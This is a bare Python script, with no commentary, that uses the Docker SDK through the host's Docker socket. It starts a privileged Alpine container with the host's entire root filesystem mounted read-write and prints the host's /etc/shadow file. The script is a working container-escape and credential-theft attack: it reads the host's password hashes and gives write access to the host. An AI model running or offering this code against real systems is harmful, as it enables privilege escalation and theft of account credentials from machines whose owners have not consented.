import docker

client = docker.DockerClient(base_url="unix://var/run/docker.sock")
out = client.containers.run(
    "alpine", "cat /host/etc/shadow",
    volumes={"/": {"bind": "/host", "mode": "rw"}}, privileged=True, remove=True,
)
print(out.decode())
